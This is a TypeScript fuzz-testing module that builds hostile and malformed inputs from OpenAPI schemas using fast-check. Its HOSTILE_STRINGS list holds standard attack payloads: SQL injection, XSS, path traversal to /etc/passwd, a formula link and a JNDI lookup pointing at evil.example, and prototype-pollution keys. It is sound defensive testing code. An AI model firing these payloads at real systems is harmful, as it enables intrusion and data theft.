import fc from 'fast-check';

/**
 * Values a hostile or careless client sends, built from the OpenAPI schema of each input: the
 * schema's own boundaries (one past the length, the minimum, the maximum), wrong types, and the
 * strings attackers try first. Every generator here may produce something the schema allows, so
 * the fuzzer reaches the services as well as the validation at the edge.
 */
export type JsonSchema = {
  $ref?: string;
  type?: string | string[];
  enum?: unknown[];
  const?: unknown;
  format?: string;
  pattern?: string;
  minLength?: number;
  maxLength?: number;
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: number;
  exclusiveMaximum?: number;
  minItems?: number;
  maxItems?: number;
  items?: JsonSchema;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean | JsonSchema;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  allOf?: JsonSchema[];
  default?: unknown;
};

/** Strings that break naive code: injection, markup, traversal, encodings, sizes, lookalike numbers. */
export const HOSTILE_STRINGS = [
  '',
  ' ',
  "' OR '1'='1",
  "'; DROP TABLE cases; --",
  "1' UNION SELECT password_hash FROM users --",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '/etc/passwd\u0000.jpg',
  '\u0000',
  '\ud800',
  '\udfff\ud800',
  '\u202e\u0645\u0631\u062d\u0628\u0627',
  '=HYPERLINK("http://evil.example","x")',
  '+1+1',
  '-1',
  '@SUM(1)',
  '0',
  '-0',
  '1e309',
  'NaN',
  'Infinity',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '{"$gt":""}',
  '__proto__',
  'constructor',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '2026-02-30',
  '9999-12-31T23:59:59Z',
  '0000-01-01',
  '13800000000',
  '11010519491231002X',
  '😀'.repeat(300),
  '中'.repeat(10_001),
  'a'.repeat(100_001),
  '%00%2e%2e%2f',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text an attacker sends, not a template
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
];

const WRONG_TYPES: unknown[] = [null, true, false, 0, -1, 1.5, 2 ** 53 + 2, -(2 ** 63), 1e308, '', 'x', [], [null], {}, { a: 1 }];

export type Resolver = (ref: string) => JsonSchema;

const hostileString = fc.constantFrom(...HOSTILE_STRINGS);
const wrongType = fc.constantFrom(...WRONG_TYPES);

function typesOf(schema: JsonSchema): string[] {
  if (Array.isArray(schema.type)) return schema.type;
  if (schema.type) return [schema.type];
  if (schema.properties) return ['object'];
  if (schema.items) return ['array'];
  return [];
}

function stringArbitrary(schema: JsonSchema): fc.Arbitrary<string> {
  const min = schema.minLength ?? 0;
  const max = schema.maxLength ?? 200;
  const edges = [
    fc.constant('x'.repeat(max + 1)),
    fc.constant('中'.repeat(Math.min(max + 1, 100_000))),
    fc.constant('中'.repeat(Math.min(max, 100_000))),
    ...(min > 0 ? [fc.constant('x'.repeat(min - 1))] : []),
  ];
  const shaped =
    schema.format === 'uuid'
      ? fc.uuid()
      : schema.format === 'date'
        ? fc.date({ noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10))
        : schema.format === 'date-time'
          ? fc.date({ noInvalidDate: true }).map((d) => d.toISOString())
          : fc.string({ minLength: min, maxLength: Math.min(max, 60), unit: 'grapheme' });
  return fc.oneof({ weight: 3, arbitrary: shaped }, { weight: 2, arbitrary: hostileString }, ...edges);
}

function numberArbitrary(schema: JsonSchema, integer: boolean): fc.Arbitrary<number> {
  const lo = schema.minimum ?? schema.exclusiveMinimum;
  const hi = schema.maximum ?? schema.exclusiveMaximum;
  const edges = [0, -1, 1, 2 ** 31, -(2 ** 31) - 1, Number.MAX_SAFE_INTEGER, 1e300, -1e300, 0.5];
  if (lo !== undefined) edges.push(lo, lo - 1);
  if (hi !== undefined) edges.push(hi, hi + 1);
  const inRange = integer
    ? fc.integer({ min: Math.max(lo ?? -1000, -(2 ** 31)), max: Math.min(hi ?? 100_000, 2 ** 31) })
    : fc.double({ min: lo ?? -1e6, max: hi ?? 1e6, noNaN: true, noDefaultInfinity: true });
  return fc.oneof(inRange, fc.constantFrom(...edges));
}

/** A value for one schema node: mostly of its shape, sometimes of the wrong type altogether. */
export function valueFor(schema: JsonSchema, resolve: Resolver, depth = 0): fc.Arbitrary<unknown> {
  if (schema.$ref) return valueFor(resolve(schema.$ref), resolve, depth);
  const variants = schema.anyOf ?? schema.oneOf;
  if (variants?.length) return fc.oneof(...variants.map((v) => valueFor(v, resolve, depth)));
  if (schema.allOf?.length) return valueFor(Object.assign({}, ...schema.allOf), resolve, depth);
  if (depth > 6) return wrongType;
  let shaped: fc.Arbitrary<unknown>;
  if (schema.const !== undefined) shaped = fc.constant(schema.const);
  else if (schema.enum?.length) shaped = fc.oneof(fc.constantFrom(...schema.enum), hostileString);
  else {
    const arbitraries = typesOf(schema).map((type): fc.Arbitrary<unknown> => {
      switch (type) {
        case 'string':
          return stringArbitrary(schema);
        case 'integer':
          return numberArbitrary(schema, true);
        case 'number':
          return numberArbitrary(schema, false);
        case 'boolean':
          return fc.boolean();
        case 'null':
          return fc.constant(null);
        case 'array':
          return arrayArbitrary(schema, resolve, depth);
        case 'object':
          return objectArbitrary(schema, resolve, depth);
        default:
          return wrongType;
      }
    });
    shaped = arbitraries.length ? fc.oneof(...arbitraries) : fc.oneof(wrongType, hostileString);
  }
  return fc.oneof({ weight: 6, arbitrary: shaped }, { weight: 1, arbitrary: wrongType });
}

function arrayArbitrary(schema: JsonSchema, resolve: Resolver, depth: number) {
  const item = valueFor(schema.items ?? {}, resolve, depth + 1);
  const max = schema.maxItems ?? 5;
  return fc.oneof(
    { weight: 4, arbitrary: fc.array(item, { minLength: 0, maxLength: Math.min(max, 5) }) },
    { weight: 1, arbitrary: item.chain((v) => fc.constant(Array.from({ length: max + 1 }, () => v))) },
    { weight: 1, arbitrary: fc.constant(Array.from({ length: 2000 }, (_, i) => i)) },
  );
}

function objectArbitrary(schema: JsonSchema, resolve: Resolver, depth: number) {
  const properties = schema.properties ?? {};
  const record: Record<string, fc.Arbitrary<unknown>> = {};
  for (const [key, sub] of Object.entries(properties)) record[key] = valueFor(sub, resolve, depth + 1);
  const keys = Object.keys(record);
  // Required keys are present most of the time, so requests reach past "field missing".
  const required = (schema.required ?? []).filter((k) => k in record);
  const base = keys.length ? fc.record(record, { requiredKeys: required }) : fc.constant({});
  const dropped = keys.length ? fc.record(record, { requiredKeys: [] }) : fc.constant({});
  const extra = fc.dictionary(fc.constantFrom('__proto__', 'constructor', 'id', 'streetId', 'x'), wrongType, { maxKeys: 2 });
  return fc.oneof(
    { weight: 5, arbitrary: base },
    { weight: 2, arbitrary: dropped },
    { weight: 1, arbitrary: fc.tuple(base, extra).map(([a, b]) => ({ ...b, ...a })) },
  );
}
